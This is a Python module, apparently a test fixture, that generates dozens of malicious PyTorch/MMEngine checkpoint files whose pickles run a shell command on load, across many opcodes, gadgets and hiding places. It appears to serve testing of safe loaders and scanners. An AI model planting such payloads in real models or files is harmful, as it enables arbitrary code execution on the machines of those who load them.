"""Checkpoints that run a command when they are unpickled: in every form that a pickle can take, and in places where one hides."""

import argparse
import io
import os
import pickle
import struct
import tarfile
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path

import numpy as np
import torch
from mmengine.logging import HistoryBuffer


class Runs:
    """Runs a shell command when it is unpickled."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


class Evaluates(Runs):
    """The same by way of `eval`."""

    def __reduce__(self):
        return eval, (f'__import__("os").system({self.command!r})',)


def text(words: str) -> bytes:
    """Instruction that pushes a text."""
    return b'X' + struct.pack('<I', len(words)) + words.encode()


def as_meta(value: bytes, protocol: int = 2) -> bytes:
    """A pickle of a dict whose entry `meta` the instructions make."""
    return b'\x80' + bytes([protocol]) + b'}' + text('meta') + value + b's.'


def zipped(path: Path, pickles: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, 'w') as archive:
        for name, content in pickles.items():
            archive.writestr(f'{name}/data.pkl', content)
            archive.writestr(f'{name}/version', '3\n')


GETATTR = b'cbuiltins\ngetattr\n'
SYSTEM = b'cos\nsystem\n'
NAMESPACE = b'cargparse\nNamespace\n)\x81'
HISTORY = b'cmmengine.logging.history_buffer\nHistoryBuffer\n'
# Instructions that leave a value, given those that push the command.
INSTRUCTIONS: dict[str, Callable[[bytes], bytes]] = {
    'os.system': lambda command: SYSTEM + command + b'\x85R',
    'posix.system': lambda command: b'cposix\nsystem\n' + command + b'\x85R',
    'subprocess.getoutput': lambda command: b'csubprocess\ngetoutput\n' + command + b'\x85R',
    'STACK_GLOBAL': lambda command: text('os') + text('system') + b'\x93' + command + b'\x85R',
    'INST': lambda command: b'(' + command + b'ios\nsystem\n',
    'OBJ': lambda command: b'(' + b'csubprocess\nPopen\n' + b'(' + text('sh') + text('-c') + command + b'lo',
    'NEWOBJ': lambda command: b'csubprocess\nPopen\n(' + text('sh') + text('-c') + command + b'l\x85\x81',
    'NEWOBJ_EX': lambda command: b'csubprocess\nPopen\n(' + text('sh') + text('-c') + command + b'l\x85}\x92',
    'getattr of a module': lambda command: GETATTR + b'c__builtin__\n__import__\n' + text('os') + b'\x85R' + text('system')
    + b'\x86R' + command + b'\x85R',
    'getattr of what is allowed': lambda command: GETATTR + GETATTR + HISTORY + text('__init__')
    + b'\x86R' + text('__globals__') + b'\x86R',
    '__setstate__': lambda command: NAMESPACE + b'}' + text('__setstate__') + SYSTEM + b'sb' + command + b'b',
    'BUILD of a class': lambda command: b'cargparse\nNamespace\n' + b'N}' + text('__setstate__') + SYSTEM + b's\x86b',
    'statistics of a history': lambda command: HISTORY + b')\x81}' + text('statistics_methods') + b'}' + text('mean') + SYSTEM
    + b'ssb',
    'rebuilding a tensor': lambda command: b'ctorch._tensor\n_rebuild_from_type_v2\n(' + SYSTEM + b'cbuiltins\nint\n' + command
    + b'\x85}tR',
    'a pickle in a pickle': lambda command: b'ctorch.storage\n_load_from_bytes\n(C' + bytes([len(inner(command))])
    + inner(command) + b'tR',
    'numpy.load': lambda command: b'cnumpy\nload\n' + text('a.npy') + b'\x85R',
    'functools.partial': lambda command: b'cfunctools\npartial\n' + SYSTEM + command + b'\x86R)R',
    'persistent id as text': lambda command: b'Pos.system\n',
    'persistent id of a module': lambda command: text('module') + SYSTEM + command + command + b'\x87\x86Q',
    'EXT1': lambda command: b'\x82\x01',
    'EXT4': lambda command: b'\x84\x01\x00\x00\x00',
}


def inner(command: bytes) -> bytes:
    return b'\x80\x02' + SYSTEM + command + b'\x85R.'


def places(payload: object) -> dict[str, dict]:
    """Checkpoints with something in the places where MMEngine and its users keep more than weights."""
    weights = {'backbone.patch_embed.proj.0.weight': torch.zeros(8, 3, 3, 3)}
    history = HistoryBuffer([1.0], [1])
    return {
        'meta': dict(state_dict=weights, meta=dict(epoch=1, iter=3, dataset_meta=payload)),
        'optimizer': dict(state_dict=weights, optimizer=dict(state={0: dict(step=payload)}, param_groups=[])),
        'message_hub': dict(state_dict=weights, message_hub=dict(log_scalars=OrderedDict(loss=history, lr=payload))),
        'array of objects': dict(state_dict=weights, meta=dict(seed=np.array([payload], dtype=object))),
        'arguments': dict(model=weights, args=argparse.Namespace(lr=payload)),
        'weights': dict(state_dict=dict(weights, **{'backbone.layers.0': payload})),
        'metadata of the weights': dict(state_dict=with_attribute(OrderedDict(weights), payload)),
        'a key': {payload: weights},
    }


def with_attribute(weights: OrderedDict, value: object) -> OrderedDict:
    weights._metadata = value
    return weights


def write_tar(path: Path, command: str) -> None:
    """The format of before 2017: a tar archive of pickles."""
    with tarfile.open(path, 'w') as archive:
        for name, content in dict(storages=pickle.dumps(0, 2) + pickle.dumps([], 2), tensors=pickle.dumps(0, 2),
                                  pickle=pickle.dumps(Runs(command), 2)).items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))


def _writers() -> dict[str, Callable[[Path, str], None]]:
    """For every malicious checkpoint a function of the file to write and the shell command to hide in it."""
    writers: dict[str, Callable[[Path, str], None]] = {}
    for name, make in INSTRUCTIONS.items():
        protocol = 4 if name in ('STACK_GLOBAL', 'NEWOBJ_EX', 'a pickle in a pickle') else 2
        writers[name] = lambda path, command, make=make, protocol=protocol: zipped(
            path, {'archive': as_meta(make(text(command)), protocol)})
        writers[f'{name}, legacy'] = lambda path, command, make=make, protocol=protocol: path.write_bytes(
            as_meta(make(text(command)), protocol))
    for name in places(None):
        for legacy in (False, True):
            writers[f'in {name}{", legacy" * legacy}'] = lambda path, command, name=name, legacy=legacy: torch.save(
                places(Runs(command))[name], path, _use_new_zipfile_serialization=not legacy)
    writers['eval'] = lambda path, command: torch.save(places(Evaluates(command))['meta'], path)
    writers['tar'] = write_tar
    bad, good = (lambda command: as_meta(INSTRUCTIONS['os.system'](text(command)))), as_meta(b'N')
    writers['second pickle'] = lambda path, command: zipped(path, {'a': good, 'b': bad(command)})
    writers['first pickle'] = lambda path, command: zipped(path, {'a': bad(command), 'b': good})
    return writers


WRITERS = _writers()
